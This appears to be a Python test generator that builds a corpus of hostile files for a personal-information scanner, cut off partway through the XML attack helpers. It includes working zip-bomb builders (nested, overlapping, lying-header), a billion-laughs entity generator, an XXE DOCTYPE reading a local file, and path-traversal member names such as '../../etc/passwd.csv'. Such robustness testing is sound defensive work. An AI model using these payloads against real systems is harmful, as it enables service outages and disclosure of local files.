#!/usr/bin/env python3
"""A seeded generator of hostile and broken files, with valid rosters and canaries mixed in.

Usage::

    python tests/hostile/generate.py OUTDIR --count N --seed S

writes

- ``OUTDIR/share/``    the corpus to scan (N files and folders-with-a-reason, roughly);
- ``OUTDIR/outside/``  files that must never be read: the XXE canary that the XML bombs point at,
  the targets of the symbolic links that lead out of the share;
- ``OUTDIR/manifest.json``  every path the generator made, its kind, and what an honest scan must
  say about it (``expect``: ``pi`` a personal-information database is found; ``ok`` read;
  ``not_ok`` a non-``ok`` row whose error matches ``reason``; ``any`` any honest status;
  ``denied`` permission denied for an unprivileged scan; ``by_extension`` counted by extension;
  ``hidden`` counted as hidden; ``inside_denied`` inside a folder an unprivileged user cannot
  list), the canary values, and the canary string of the XXE target.

Everything is a function of ``(seed, count)`` except timestamps, inode numbers and the absolute
path of ``outside/`` (which the XXE entities name). Nothing needs the network.

Kinds: zip bombs (high ratio, many members, nested, members lying about their size in the local
header or the central directory, overlapping entries), truncated and lying zips, encrypted
members and workbooks, XML bombs and XXE in xlsx/docx/ods parts (UTF-8 and UTF-16, padded
prologs), sheet-size lies, broken PDFs (xref loops, page-tree cycles, huge counts, deep nesting,
stream bombs, recursive forms), bad encodings, hostile names (not UTF-8, control characters,
255 bytes, 120 folders deep, deeper than PATH_MAX), FIFOs, sockets, a character device (root
only; never to be opened), symbolic links out of the share and in loops, unreadable files and
folders, and a fuzzer that mutates the files of ``fixtures/sample_share`` (byte flips,
truncations, chunk duplication, zip member swaps).
"""

from __future__ import annotations

import argparse
import contextlib
import csv
import io
import json
import os
import random
import stat
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import asdict, dataclass, field
from functools import lru_cache
from pathlib import Path

REPO = Path(__file__).resolve().parents[2]
FIXTURES = REPO / "fixtures" / "sample_share"
ZIP_TIME = (2024, 4, 1, 9, 0, 0)
NOT_INSPECTED = frozenset({".png", ".jpg", ".jpeg", ".exe", ".gif", ".dll"})
MB = 1024 * 1024

# ------------------------------------------------------------------------------------- people

SURNAMES = (
    ("佐藤", "サトウ"), ("鈴木", "スズキ"), ("高橋", "タカハシ"), ("田中", "タナカ"),
    ("伊藤", "イトウ"), ("渡辺", "ワタナベ"), ("山本", "ヤマモト"), ("中村", "ナカムラ"),
    ("小林", "コバヤシ"), ("加藤", "カトウ"), ("吉田", "ヨシダ"), ("山田", "ヤマダ"),
    ("佐々木", "ササキ"), ("山口", "ヤマグチ"), ("松本", "マツモト"), ("井上", "イノウエ"),
    ("木村", "キムラ"), ("清水", "シミズ"), ("山崎", "ヤマザキ"), ("森", "モリ"),
)  # fmt: skip
GIVEN = (
    ("太郎", "タロウ"), ("花子", "ハナコ"), ("健", "ケン"), ("恵", "メグミ"), ("翔", "ショウ"),
    ("美咲", "ミサキ"), ("大輔", "ダイスケ"), ("陽菜", "ヒナ"), ("蓮", "レン"), ("結衣", "ユイ"),
    ("悠真", "ユウマ"), ("さくら", "サクラ"), ("湊", "ミナト"), ("葵", "アオイ"),
)  # fmt: skip
ROMAJI = ("sato", "suzuki", "takahashi", "tanaka", "ito", "watanabe", "yamamoto", "nakamura")
HEADER = ("学籍番号", "氏名", "フリガナ", "生年月日", "電話番号", "メールアドレス")


@dataclass(frozen=True, slots=True)
class Person:
    sid: str
    name: str
    kana: str
    birth: str
    phone: str
    email: str

    def row(self) -> list[str]:
        return [self.sid, self.name, self.kana, self.birth, self.phone, self.email]


def person(rng: random.Random, n: int) -> Person:
    (sur, sur_kana), (given, given_kana) = rng.choice(SURNAMES), rng.choice(GIVEN)
    return Person(
        sid=f"S{n:05d}",
        name=f"{sur} {given}",
        kana=f"{sur_kana} {given_kana}",
        birth=f"2008-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d}",
        phone=f"090-{rng.randint(1000, 9999)}-{rng.randint(1000, 9999)}",
        email=f"{rng.choice(ROMAJI)}{n}@example.jp",
    )


@dataclass(frozen=True, slots=True)
class Canary:
    """A person who exists nowhere else: any trace of these values in an output is a leak."""

    person: Person
    xxe: str  # the content of outside/canary.txt

    @staticmethod
    def make(rng: random.Random) -> Canary:
        tag = rng.randbytes(4).hex()
        # 4-character given name and 3-character surname, from kanji used by no other file
        sur = "".join(rng.sample("鷲鶯鸛鵜鷺", 2)) + "院"
        given = "".join(rng.sample("瑠璃玻珀翡翠", 3)) + "丸"
        digits = [rng.randint(1000, 9999) for _ in range(2)]
        p = Person(
            sid=f"C{rng.randint(10000, 99999)}",
            name=f"{sur} {given}",
            kana="カナリア ヤクモ",
            birth="2008-02-29",
            phone=f"080-{digits[0]}-{digits[1]}",
            email=f"kanaria.{tag}@example.jp",
        )
        return Canary(p, f"XXE-CANARY-{rng.randbytes(8).hex()}")

    def values(self) -> list[str]:
        p = self.person
        return [
            p.name,
            p.name.replace(" ", ""),
            p.name.split()[1],
            p.phone,
            p.phone.replace("-", ""),
            p.email,
            p.email.split("@")[0],
            self.xxe,
        ]


# --------------------------------------------------------------------------------- manifest


@dataclass(slots=True)
class Entry:
    path: str  # relative to the share, "/" separators; undecodable bytes as surrogate escapes
    kind: str
    expect: str
    reason: str = ""  # a regex; with expect "not_ok", some row's error must match it
    type: str = "file"  # file, dir, fifo, socket, chardev, symlink


@dataclass(slots=True)
class Corpus:
    outdir: Path
    share: Path
    outside: Path
    seed: int
    count: int
    canary: Canary
    entries: list[Entry] = field(default_factory=list)
    raw_values: set[str] = field(default_factory=set)  # full names, phones, e-mails written

    @property
    def canary_file(self) -> Path:
        return self.outside / "canary.txt"

    def manifest(self) -> dict:
        return {
            "seed": self.seed,
            "count": self.count,
            "share": str(self.share),
            "outside": str(self.outside),
            "canary_file": str(self.canary_file),
            "canary_values": self.canary.values(),
            "raw_values": sorted(self.raw_values),
            "entries": [asdict(e) for e in self.entries],
        }


def load_manifest(outdir: Path) -> dict:
    return json.loads((Path(outdir) / "manifest.json").read_text(encoding="utf-8"))


# ------------------------------------------------------------------------------ file formats


def csv_bytes(rows: list[list[str]], encoding: str = "utf-8-sig") -> bytes:
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\r\n").writerows(rows)
    return buf.getvalue().encode(encoding)


def roster(rng: random.Random, n: int, canary: Person | None = None) -> list[list[str]]:
    people = [person(rng, rng.randint(1, 99999)) for _ in range(n)]
    if canary is not None:
        people.insert(rng.randint(0, len(people)), canary)
    return [list(HEADER)] + [p.row() for p in people]


def zip_of(members: list[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as zf:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=ZIP_TIME)
            info.compress_type = method
            zf.writestr(info, data)
    return buf.getvalue()


_XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
_NS_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_NS_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_NS_PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
_CT = "application/vnd.openxmlformats-officedocument"


def _esc(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def col_name(index: int) -> str:
    name = ""
    index += 1
    while index:
        index, rem = divmod(index - 1, 26)
        name = chr(65 + rem) + name
    return name


def sheet_xml(
    rows: list[list[str]],
    *,
    strings: dict[str, int] | None = None,
    dimension: str | None = None,
    row_offset: int = 0,
    extra_cells: str = "",
    merges: list[str] = (),  # type: ignore[assignment]
) -> str:
    """A worksheet; shared strings when ``strings`` is given, inline strings otherwise."""
    out = [f'{_XML}<worksheet xmlns="{_NS_MAIN}" xmlns:r="{_NS_REL}">']
    if dimension:
        out.append(f'<dimension ref="{dimension}"/>')
    out.append("<sheetData>")
    for r, row in enumerate(rows, start=1 + row_offset):
        cells = []
        for c, value in enumerate(row):
            ref = f"{col_name(c)}{r}"
            if strings is not None:
                index = strings.setdefault(value, len(strings))
                cells.append(f'<c r="{ref}" t="s"><v>{index}</v></c>')
            else:
                cells.append(f'<c r="{ref}" t="inlineStr"><is><t>{_esc(value)}</t></is></c>')
        out.append(f'<row r="{r}">{"".join(cells)}</row>')
    out.append(extra_cells)
    out.append("</sheetData>")
    if merges:
        out.append(f'<mergeCells count="{len(merges)}">')
        out.extend(f'<mergeCell ref="{m}"/>' for m in merges)
        out.append("</mergeCells>")
    out.append("</worksheet>")
    return "".join(out)


def shared_strings_xml(strings: dict[str, int]) -> str:
    items = sorted(strings, key=strings.__getitem__)
    body = "".join(f"<si><t>{_esc(s)}</t></si>" for s in items)
    n = len(items)
    return f'{_XML}<sst xmlns="{_NS_MAIN}" count="{n}" uniqueCount="{n}">{body}</sst>'


def xlsx_parts(sheets: list[tuple[str, str]], shared: str | None) -> dict[str, str]:
    """The parts of a minimal workbook: ``sheets`` are (name, worksheet XML)."""
    overrides = "".join(
        f'<Override PartName="/xl/worksheets/sheet{i}.xml" '
        f'ContentType="{_CT}.spreadsheetml.worksheet+xml"/>'
        for i in range(1, len(sheets) + 1)
    )
    if shared is not None:
        overrides += (
            '<Override PartName="/xl/sharedStrings.xml" '
            f'ContentType="{_CT}.spreadsheetml.sharedStrings+xml"/>'
        )
    parts = {
        "[Content_Types].xml": (
            f'{_XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            f'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
            f'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/xl/workbook.xml" ContentType="{_CT}.spreadsheetml.sheet.'
            f'main+xml"/>{overrides}</Types>'
        ),
        "_rels/.rels": (
            f'{_XML}<Relationships xmlns="{_NS_PKG}"><Relationship Id="rId1" '
            f'Type="{_NS_REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
        ),
        "xl/workbook.xml": (
            f'{_XML}<workbook xmlns="{_NS_MAIN}" xmlns:r="{_NS_REL}"><sheets>'
            + "".join(
                f'<sheet name="{_esc(name)}" sheetId="{i}" r:id="rId{i}"/>'
                for i, (name, _) in enumerate(sheets, start=1)
            )
            + "</sheets></workbook>"
        ),
        "xl/_rels/workbook.xml.rels": (
            f'{_XML}<Relationships xmlns="{_NS_PKG}">'
            + "".join(
                f'<Relationship Id="rId{i}" Type="{_NS_REL}/worksheet" '
                f'Target="worksheets/sheet{i}.xml"/>'
                for i in range(1, len(sheets) + 1)
            )
            + (
                f'<Relationship Id="rId{len(sheets) + 1}" Type="{_NS_REL}/sharedStrings" '
                'Target="sharedStrings.xml"/>'
                if shared is not None
                else ""
            )
            + "</Relationships>"
        ),
    }
    for i, (_, xml) in enumerate(sheets, start=1):
        parts[f"xl/worksheets/sheet{i}.xml"] = xml
    if shared is not None:
        parts["xl/sharedStrings.xml"] = shared
    return parts


def package(parts: dict[str, str | bytes], encodings: dict[str, str] | None = None) -> bytes:
    encodings = encodings or {}
    members = []
    for name, body in parts.items():
        data = body if isinstance(body, bytes) else body.encode(encodings.get(name, "utf-8"))
        members.append((name, data))
    return zip_of(members)


def xlsx_bytes(rows: list[list[str]], title: str = "名簿", *, shared: bool = True) -> bytes:
    strings: dict[str, int] | None = {} if shared else None
    sheet = sheet_xml(rows, strings=strings)
    return package(xlsx_parts([(title, sheet)], shared_strings_xml(strings) if strings else None))


_NS_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def docx_document_xml(
    paragraphs: list[str], table: list[list[str]] | None, prolog: str = ""
) -> str:
    body = "".join(f"<w:p><w:r><w:t>{_esc(p)}</w:t></w:r></w:p>" for p in paragraphs)
    if table:
        body += "<w:tbl>"
        for row in table:
            body += "<w:tr>" + "".join(
                f"<w:tc><w:p><w:r><w:t>{_esc(c)}</w:t></w:r></w:p></w:tc>" for c in row
            )
            body += "</w:tr>"
        body += "</w:tbl>"
    body += "<w:sectPr/>"
    return f'{_XML}{prolog}<w:document xmlns:w="{_NS_W}"><w:body>{body}</w:body></w:document>'


def docx_parts(document: str) -> dict[str, str]:
    return {
        "[Content_Types].xml": (
            f'{_XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
            'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/word/document.xml" ContentType="{_CT}.wordprocessingml.'
            'document.main+xml"/></Types>'
        ),
        "_rels/.rels": (
            f'{_XML}<Relationships xmlns="{_NS_PKG}"><Relationship Id="rId1" '
            f'Type="{_NS_REL}/officeDocument" Target="word/document.xml"/></Relationships>'
        ),
        "word/document.xml": document,
    }


def docx_bytes(paragraphs: list[str], table: list[list[str]] | None = None) -> bytes:
    return package(docx_parts(docx_document_xml(paragraphs, table)))


_ODS_NS = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"'
)
_ODS_MIME = "application/vnd.oasis.opendocument.spreadsheet"


def ods_content(rows: list[list[str]], prolog: str = "", extra: str = "") -> str:
    body = "".join(
        "<table:table-row>"
        + "".join(
            f'<table:table-cell office:value-type="string"><text:p>{_esc(v)}</text:p>'
            "</table:table-cell>"
            for v in row
        )
        + "</table:table-row>"
        for row in rows
    )
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n{prolog}<office:document-content {_ODS_NS}>'
        f'<office:body><office:spreadsheet><table:table table:name="名簿">{body}{extra}'
        "</table:table></office:spreadsheet></office:body></office:document-content>"
    )


def ods_bytes(content: str, encoding: str = "utf-8") -> bytes:
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<manifest:manifest xmlns:manifest='
        '"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
        f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{_ODS_MIME}"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        "</manifest:manifest>"
    )
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name, data, method in (
            ("mimetype", _ODS_MIME.encode(), zipfile.ZIP_STORED),
            ("content.xml", content.encode(encoding), zipfile.ZIP_DEFLATED),
            ("META-INF/manifest.xml", manifest.encode(), zipfile.ZIP_DEFLATED),
        ):
            info = zipfile.ZipInfo(name, date_time=ZIP_TIME)
            info.compress_type = method
            zf.writestr(info, data)
    return buf.getvalue()


def pdf_bytes(
    objects: list[bytes],
    *,
    root: int = 1,
    trailer_extra: bytes = b"",
    xref: bool = True,
    prev: int | None = None,
    startxref: int | None = None,
) -> bytes:
    """Objects numbered from 1, an xref table (or not), a trailer. ``prev`` = /Prev offset."""
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref_at = len(out)
    if xref:
        out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
        for off in offsets:
            out += b"%010d 00000 n \n" % off
    trailer = b"<< /Size %d /Root %d 0 R" % (len(objects) + 1, root) + trailer_extra
    if prev is not None:
        trailer += b" /Prev %d" % (xref_at if prev < 0 else prev)
    out += b"trailer\n" + trailer + b" >>\n"
    out += b"startxref\n%d\n%%%%EOF\n" % (xref_at if startxref is None else startxref)
    return bytes(out)


def _pdf_text(lines: list[str]) -> bytes:
    ops = [b"BT /F1 11 Tf 72 760 Td 14 TL"]
    for line in lines:
        safe = line.encode("latin-1", "replace").replace(b"\\", b"\\\\")
        ops.append(b"(" + safe.replace(b"(", b"\\(").replace(b")", b"\\)") + b") Tj T*")
    ops.append(b"ET")
    return b"\n".join(ops)


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d%s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def simple_pdf(lines: list[str]) -> bytes:
    return pdf_bytes(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> >>",
            _stream(_pdf_text(lines)),
            _FONT,
        ]
    )


# ------------------------------------------------------------------------------- raw zips


@dataclass(slots=True)
class RawMember:
    name: bytes
    payload: bytes  # as stored (already compressed for method 8)
    method: int = 8
    crc: int = 0
    size: int = 0  # uncompressed, as the central directory says
    local_size: int | None = None  # uncompressed, as the local header says (None: = size)
    csize: int | None = None  # compressed size (None: len(payload))
    flags: int = 0x800


def raw_zip(
    members: list[RawMember], *, offsets: list[int] | None = None, entries: int | None = None
) -> bytes:
    """A zip written by hand, so that headers can lie. ``offsets`` replaces the central
    directory's local-header offsets (overlapping entries); ``entries`` the EOCD count."""
    out = bytearray()
    local_at = []
    for m in members:
        local_at.append(len(out))
        csize = len(m.payload) if m.csize is None else m.csize
        lsize = m.size if m.local_size is None else m.local_size
        out += struct.pack(
            "<IHHHHHIIIHH", 0x04034B50, 20, m.flags, m.method, 0, 0x5821, m.crc, csize, lsize,
            len(m.name), 0,
        )  # fmt: skip
        out += m.name + m.payload
    cd_at = len(out)
    offsets = offsets or local_at
    for m, off in zip(members, offsets, strict=False):
        csize = len(m.payload) if m.csize is None else m.csize
        out += struct.pack(
            "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, m.flags, m.method, 0, 0x5821, m.crc,
            csize, m.size, len(m.name), 0, 0, 0, 0, 0, off,
        )  # fmt: skip
        out += m.name
    n = len(members) if entries is None else entries
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n, n, len(out) - cd_at, cd_at, 0)
    return bytes(out)


def deflate(data: bytes) -> bytes:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


@lru_cache(maxsize=8)
def deflated_fill(size: int, unit: bytes = b"\0") -> tuple[bytes, int]:
    """Raw deflate of ``size`` bytes of ``unit`` repeated, and its CRC (cached: bombs repeat)."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = unit * (MB // len(unit))
    out, crc, left = [], 0, size
    while left > 0:
        piece = block[: min(left, len(block))]
        out.append(c.compress(piece))
        crc = zlib.crc32(piece, crc)
        left -= len(piece)
    out.append(c.flush())
    return b"".join(out), crc


def stored_member(name: str, data: bytes, **kw) -> RawMember:
    return RawMember(name.encode(), deflate(data), crc=zlib.crc32(data), size=len(data), **kw)


# --------------------------------------------------------------------------------- the maker


class Maker:
    """Writes files into the share and records their manifest entries."""

    def __init__(self, corpus: Corpus, rng: random.Random) -> None:
        self.c = corpus
        self.rng = rng
        self.n = 0
        self._fixtures: list[tuple[str, bytes]] | None = None

    # -- writing
    def name(self, stem: str, ext: str) -> str:
        self.n += 1
        return f"{stem}_{self.n:05d}{ext}"

    def folder(self) -> str:
        return self.rng.choice(("", "教務/", "総務課/", "学年/3年/", "Users/t/Downloads/", "x/y/"))

    def write(
        self,
        data: bytes,
        ext: str,
        kind: str,
        expect: str,
        reason: str = "",
        rel: str | None = None,
    ) -> Entry:
        rel = rel or self.folder() + self.name(kind, ext)
        path = self.c.share / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        entry = Entry(rel, kind, expect, reason)
        self.c.entries.append(entry)
        return entry

    def roster(self, n: int | None = None, canary: bool = False) -> list[list[str]]:
        n = n or self.rng.randint(5, 30)
        rows = roster(self.rng, n, self.c.canary.person if canary else None)
        for row in rows[1:]:
            self.c.raw_values.update((row[1], row[4], row[5]))  # name, phone, e-mail
        return rows

    # -- fixtures for the fuzzer
    def fixtures(self) -> list[tuple[str, bytes]]:
        if self._fixtures is None:
            found = []
            for path in sorted(FIXTURES.rglob("*")):
                if path.is_file() and path.suffix.lower() not in NOT_INSPECTED:
                    found.append((path.name, path.read_bytes()))
            self._fixtures = found
        return self._fixtures


# Each kind: a function (maker) → None that writes one file (or a few) and its entries.
Kind = Callable[[Maker], None]
KINDS: dict[str, Kind] = {}
WEIGHTS: dict[str, float] = {}
HEAVY: set[str] = set()  # seconds to scan each: left out of small corpora (CI) unless asked


def kind(weight: float, heavy: bool = False) -> Callable[[Kind], Kind]:
    def register(fn: Kind) -> Kind:
        KINDS[fn.__name__] = fn
        WEIGHTS[fn.__name__] = weight
        if heavy:
            HEAVY.add(fn.__name__)
        return fn

    return register


# ---- valid files with personal data (the scan must still read them) ------------------------

PI = "pi"
_BOMB = r"zip bomb|limit|expanded|ratio"
_XML_REFUSED = r"(?i)xml|entit|dtd|doctype"


@kind(3)
def valid_csv(m: Maker) -> None:
    enc = m.rng.choice(("utf-8-sig", "utf-8", "cp932"))
    m.write(csv_bytes(m.roster(), enc), ".csv", "valid_csv", PI)


@kind(2)
def valid_xlsx(m: Maker) -> None:
    rows = [["2024年度 3年1組 生徒名簿"], [], *m.roster()]
    m.write(xlsx_bytes(rows, shared=m.rng.random() < 0.7), ".xlsx", "valid_xlsx", PI)


@kind(1)
def valid_docx(m: Maker) -> None:
    data = docx_bytes(["保護者会 出席者名簿", "以下のとおり。"], m.roster())
    m.write(data, ".docx", "valid_docx", PI)


@kind(1)
def valid_ods(m: Maker) -> None:
    m.write(ods_bytes(ods_content(m.roster())), ".ods", "valid_ods", PI)


@kind(1)
def valid_zip(m: Maker) -> None:
    inner = zip_of([("2023/卒業生名簿.csv", csv_bytes(m.roster(), "cp932"))])
    data = zip_of([("名簿.csv", csv_bytes(m.roster())), ("過去分.zip", inner)])
    m.write(data, ".zip", "valid_zip", PI)


@kind(0.5)
def valid_pdf(m: Maker) -> None:
    phones = [f"090-{m.rng.randint(1000, 9999)}-1234" for _ in range(5)]
    m.c.raw_values.update(phones)
    m.write(simple_pdf(["Contact list"] + [f"Tel {p}" for p in phones]), ".pdf", "valid_pdf", "ok")


@kind(0.5)
def valid_fixture(m: Maker) -> None:
    source = m.rng.choice(
        (
            "学年/3年/3年生徒名簿.xlsx",
            "教務/部活動/部員名簿_2024.csv",
            "保健室/2024年度_健康診断結果.ods",
        )
    )
    data = (FIXTURES / source).read_bytes()
    m.write(data, Path(source).suffix, "valid_fixture", PI)


@kind(0.3)
def canary_roster(m: Maker) -> None:
    """Files holding the canary person: found as databases, never quoted anywhere."""
    rows = m.roster(canary=True)
    fmt = m.rng.choice(("csv", "xlsx", "zip", "docx", "pdf"))
    if fmt == "csv":
        m.write(csv_bytes(rows), ".csv", "canary_csv", PI)
    elif fmt == "xlsx":
        m.write(xlsx_bytes(rows), ".xlsx", "canary_xlsx", PI)
    elif fmt == "zip":
        m.write(zip_of([("名簿.xlsx", xlsx_bytes(rows))]), ".zip", "canary_zip", PI)
    elif fmt == "docx":
        m.write(docx_bytes(["名簿"], rows), ".docx", "canary_docx", PI)
    else:
        p = m.c.canary.person
        data = simple_pdf([f"mail {p.email}", f"tel {p.phone}", f"id {p.sid}"])
        m.write(data, ".pdf", "canary_pdf", "ok")


# ---- zip bombs -----------------------------------------------------------------------------


@kind(1)
def bomb_ratio(m: Maker) -> None:
    size = m.rng.choice((20, 50, 100)) * MB
    payload, crc = deflated_fill(size)
    member = RawMember(b"data.csv", payload, crc=crc, size=size)
    m.write(raw_zip([member]), ".zip", "bomb_ratio", "not_ok", _BOMB)


@kind(0.3)
def bomb_ratio_in_xlsx(m: Maker) -> None:
    """An Office package is a zip too: a sheet that inflates to 100 MB of spaces."""
    parts = xlsx_parts([("S", sheet_xml([["a"]]))], None)
    members = [stored_member(k, v.encode()) for k, v in parts.items()]
    payload, crc = deflated_fill(100 * MB, b" ")
    members.append(RawMember(b"xl/worksheets/sheet2.xml", payload, crc=crc, size=100 * MB))
    m.write(raw_zip(members), ".xlsx", "bomb_ratio_in_xlsx", "not_ok", _BOMB)


@kind(0.3)
def bomb_many_members(m: Maker) -> None:
    count = m.rng.choice((12_000, 30_000))
    members = [stored_member(f"m/{i}.txt", b"") for i in range(count)]
    m.write(raw_zip(members), ".zip", "bomb_many_members", "not_ok", r"member")


@kind(0.3)
def bomb_directory_lies(m: Maker) -> None:
    """The end record claims 65,535 members (or a zip64-sized count): never listed."""
    members = [stored_member("a.csv", csv_bytes(m.roster(3)))]
    m.write(raw_zip(members, entries=0xFFFF), ".zip", "bomb_directory_lies", "not_ok", "")


@kind(0.5)
def bomb_nested(m: Maker) -> None:
    """42.zip-like: each level holds ``fan`` copies of the level below."""
    fan, depth = m.rng.choice(((4, 5), (2, 8), (1, 40)))
    payload, crc = deflated_fill(5 * MB)
    level = raw_zip([RawMember(b"0.csv", payload, crc=crc, size=5 * MB)])
    for _ in range(depth):
        level = zip_of([(f"{i}.zip", level) for i in range(fan)])
    m.write(level, ".zip", "bomb_nested", "not_ok", r"nested|zip bomb|limit")


@kind(0.5)
def bomb_lying_size(m: Maker) -> None:
    """Headers say 1 kB; the data inflates to 64 MB (central, local, or both lie)."""
    payload, crc = deflated_fill(64 * MB, b"a,b\r\n")
    where = m.rng.choice(("both", "central", "local"))
    member = RawMember(b"list.csv", payload, crc=crc, size=1000)
    if where == "central":
        member.local_size = 64 * MB
    elif where == "local":
        member.size, member.local_size = 64 * MB, 1000
    m.write(raw_zip([member]), ".zip", f"bomb_lying_size_{where}", "not_ok", "")


@kind(0.5)
def bomb_overlapping(m: Maker) -> None:
    """Many central-directory entries share one kernel (Fifield's overlapped zip bomb)."""
    text = ("1,山田,090\r\n" * (4 * MB // 12)).encode()
    payload = deflate(text)
    kernel = RawMember(b"k.csv", payload, crc=zlib.crc32(text), size=len(text))
    copies = m.rng.choice((500, 2000))
    members = [kernel] + [
        RawMember(b"k.csv", payload, crc=kernel.crc, size=len(text)) for _ in range(copies - 1)
    ]
    # one local header, every central entry pointing at it
    body = raw_zip([kernel])
    cd = bytearray()
    for mem in members:
        cd += struct.pack(
            "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, mem.flags, 8, 0, 0x5821, mem.crc,
            len(payload), mem.size, len(mem.name), 0, 0, 0, 0, 0, 0,
        )  # fmt: skip
        cd += mem.name
    local_end = body.index(b"PK\x01\x02")
    data = bytes(body[:local_end]) + bytes(cd)
    data += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, copies, copies, len(cd), local_end, 0)
    m.write(data, ".zip", "bomb_overlapping", "not_ok", r"overlap|zip bomb|limit")


@kind(0.3)
def bomb_gzip(m: Maker) -> None:
    payload, _ = deflated_fill(60 * MB)
    data = b"\x1f\x8b\x08\x00\0\0\0\0\x02\xff" + payload + struct.pack("<II", 0, 0)
    m.write(data, ".csv.gz", "bomb_gzip", "not_ok", "")


# ---- broken and lying zips ---------------------------------------------------------------


def _valid_zip(m: Maker) -> bytes:
    return zip_of([("名簿.csv", csv_bytes(m.roster())), ("memo.txt", "連絡事項".encode())])


@kind(1)
def zip_truncated(m: Maker) -> None:
    data = _valid_zip(m)
    m.write(data[: m.rng.randint(10, len(data) - 1)], ".zip", "zip_truncated", "not_ok", "")


@kind(0.5)
def zip_bad_offsets(m: Maker) -> None:
    data = bytearray(_valid_zip(m))
    eocd = data.rfind(b"PK\x05\x06")
    struct.pack_into("<I", data, eocd + 16, m.rng.choice((len(data) + 10, 0xFFFFFFF0, 3)))
    m.write(bytes(data), ".zip", "zip_bad_offsets", "not_ok", "")


@kind(0.5)
def zip_bad_crc(m: Maker) -> None:
    member = stored_member("名簿.csv", csv_bytes(m.roster()))
    member.crc ^= 0xDEADBEEF
    m.write(raw_zip([member]), ".zip", "zip_bad_crc", "not_ok", "")


@kind(0.3)
def zip_bad_method(m: Maker) -> None:
    member = stored_member("名簿.csv", csv_bytes(m.roster()))
    member.method = m.rng.choice((99, 14, 12, 97, 0x7777))
    m.write(raw_zip([member]), ".zip", "zip_bad_method", "not_ok", "")


@kind(0.5)
def zip_encrypted(m: Maker) -> None:
    a = stored_member("名簿.csv", csv_bytes(m.roster()), flags=0x801)
    b = stored_member("readme.txt", b"hello")
    m.write(raw_zip([a, b]), ".zip", "zip_encrypted", "not_ok", "password")


@kind(0.3)
def zip_traversal_names(m: Maker) -> None:
    names = ["../../etc/passwd.csv", "/abs/名簿.csv", "C:\\x\\a.csv", "a\nb.csv", "nul\0.csv"]
    members = [stored_member(n, csv_bytes(m.roster(3))) for n in names]
    m.write(raw_zip(members), ".zip", "zip_traversal_names", "any")


_ENCRYPTED_XLSX: bytes | None = None


@kind(0.3)
def xlsx_encrypted(m: Maker) -> None:
    global _ENCRYPTED_XLSX
    if _ENCRYPTED_XLSX is None:
        from msoffcrypto.format.ooxml import OOXMLFile

        out = io.BytesIO()
        plain = xlsx_bytes(roster(random.Random(1), 5))
        OOXMLFile(io.BytesIO(plain)).encrypt("secret", out)
        _ENCRYPTED_XLSX = out.getvalue()
    m.write(_ENCRYPTED_XLSX, ".xlsx", "xlsx_encrypted", "not_ok", "password")


# ---- XML bombs and external entities in Office parts ---------------------------------------


def laughs(levels: int = 10) -> str:
    ents = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, levels)
    ]
    return "<!DOCTYPE lolz [" + "".join(ents) + "]>"


def xxe(target: Path, name: str = "xxe") -> str:
    return f'<!DOCTYPE r [<!ENTITY {name} SYSTEM "file://{target}">]>'


def _with_prolog(xml: str, prolog: str) -> str:
    head, sep, rest = xml.partition("?>\n")
    return head + sep + prolog + rest


def _xml_attack(m: Maker) -> tuple[str, str]:
    """(prolog, entity reference) for a bomb, an XXE, or a parameter-entity XXE."""
